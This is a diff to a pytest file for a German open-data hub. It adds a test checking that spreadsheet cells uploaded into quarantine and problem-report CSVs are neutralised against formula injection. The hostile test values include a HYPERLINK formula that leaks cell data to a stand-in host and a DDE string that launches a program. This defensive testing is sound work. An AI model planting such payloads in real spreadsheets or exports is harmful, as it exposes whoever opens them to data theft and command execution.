@@ -42,6 +42,7 @@ LIMIT = 2 << 20  # HUB_MAX_UPLOAD_BYTES of the test server
 DATASET = "pflege-upload"
 URL_DATASET = "pflege-url"
 SHEET_DATASET = "pflege-blatt"
+FORMULA_DATASET = "pflege-formeln"
 PAGE = f"/arbeitsbereich/datensaetze/{DATASET}"
 RECORD = {"name": DATASET, "title": "Pflegeangebote (hochgeladen)", "publisher": "sozialamt",
           "description": "Aus der Tabelle des Sozialamts.", "license": "dl-by-de/2.0",
@@ -67,7 +68,8 @@ class Site:
 def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
     root: Path = tmp_path_factory.mktemp("daten")
     build(root)
-    for spec in (RECORD, {**RECORD, "name": URL_DATASET}, {**RECORD, "name": SHEET_DATASET}):
+    for spec in (RECORD, *({**RECORD, "name": n} for n in (URL_DATASET, SHEET_DATASET,
+                                                            FORMULA_DATASET))):
         record = root / "record.yaml"
         record.write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
         run_hub(root, "catalog", "add", str(record))
@@ -410,3 +412,47 @@ def test_a_url_as_the_source(site: Site) -> None:
     # kept current like a pipeline file: the worker's schedule queues the saved remote source
     settings = load_settings(site.root, site.root / "store")
     assert URL_DATASET in tick(settings, Store(settings.store)).submitted
+
+
+HOSTILE_CELLS = ['=HYPERLINK("https://boese.example/?"&A1,"Klick")', "+1+cmd|' /C calc'!A0",
+                 "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def test_quarantined_rows_download_with_formulas_neutralised(site: Site,
+                                                             demo_district: Path) -> None:
+    """Hostile cells in an uploaded workbook (postcodes that fail their pattern, so the rows
+    go to quarantine as they came, and names that are valid text): the quarantine CSV and the
+    problems CSV start none of their text cells with = + - @ TAB or CR — each gets an
+    apostrophe in front, exactly the value behind it (hub.spreadsheet)."""
+    here = f"/arbeitsbereich/datensaetze/{FORMULA_DATASET}"
+    book = openpyxl.load_workbook(io.BytesIO(care_workbook(demo_district, {})))
+    sheet = book["Einrichtungen"]
+    header = {cell.value: cell.column for cell in sheet[4]}
+    for i, value in enumerate(HOSTILE_CELLS):
+        for column in ("PLZ", "Name"):
+            cell = sheet.cell(5 + i, header[column])
+            cell.value = value
+            cell.data_type = "s"  # text, as typed with a leading apostrophe (not a formula)
+    out = io.BytesIO()
+    book.save(out)
+    with signed_in(site, "sam") as browser:
+        assert upload(browser, ("Formeln.xlsx", out.getvalue()), dataset=FORMULA_DATASET
+                      ).status_code == 303
+        form = mapping_form(browser.get(here + "/daten").text)
+        assert browser.post(here + "/daten/pipeline", data=form).status_code == 303
+        browser.post(here + "/daten/lauf", data={"csrf": form["csrf"]})
+        assert finished(browser, FORMULA_DATASET)["state"] == "committed"
+        rows = browser.get(here + "/pruefbericht/quarantaene.csv")
+        problems = browser.get(here + "/pruefbericht/probleme.csv")
+    assert rows.status_code == problems.status_code == 200
+    table = list(csv.DictReader(io.StringIO(rows.content.decode("utf-8-sig"), newline="")))
+    assert len(table) == len(HOSTILE_CELLS)
+    kept = [value.strip() for value in HOSTILE_CELLS]  # the XLSX reader trims cells
+    assert sorted(r["plz"] for r in table) == sorted("'" + v for v in kept)
+    assert sorted(r["name"] for r in table) == sorted("'" + v for v in kept)
+    listed = list(csv.DictReader(io.StringIO(problems.content.decode("utf-8-sig"),
+                                             newline="")))
+    assert sorted(r["Wert"] for r in listed if r["Regel"] == "pattern") == sorted(
+        "'" + v for v in kept), listed
+    for cell in [c for r in table + listed for c in r.values()]:
+        assert not re.match(r"[=+\-@\t\r]", cell), cell
